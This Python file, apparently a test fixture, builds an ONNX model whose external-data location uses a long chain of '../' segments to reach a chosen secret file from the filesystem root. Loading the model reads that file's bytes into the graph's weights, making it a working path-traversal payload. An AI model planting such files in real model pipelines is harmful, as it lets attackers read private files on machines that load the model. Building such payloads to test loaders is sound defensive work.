import os

from onnx import TensorProto, helper, save


def build(folder, around):
    outside = TensorProto(name="w", dims=[3, 4], data_type=TensorProto.UINT8)
    outside.data_location = TensorProto.EXTERNAL
    # From whatever folder it is read, this leads to the root, and on to the file.
    location = "../" * 20 + os.path.relpath(around.secret_file, "/")
    outside.external_data.add(key="location", value=location)
    graph = helper.make_graph(
        [
            helper.make_node("GlobalAveragePool", ["x"], ["pooled"]),
            helper.make_node("Flatten", ["pooled"], ["flat"]),
            helper.make_node("Cast", ["w"], ["read"], to=TensorProto.FLOAT),
            helper.make_node("MatMul", ["flat", "read"], ["y"]),
        ],
        "reader",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 3, 32, 32])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 4])],
        [outside],
    )
    path = folder / "entry.onnx"
    path.write_bytes(
        helper.make_model(
            graph, ir_version=9, opset_imports=[helper.make_opsetid("", 18)]
        ).SerializeToString()
    )
    return path
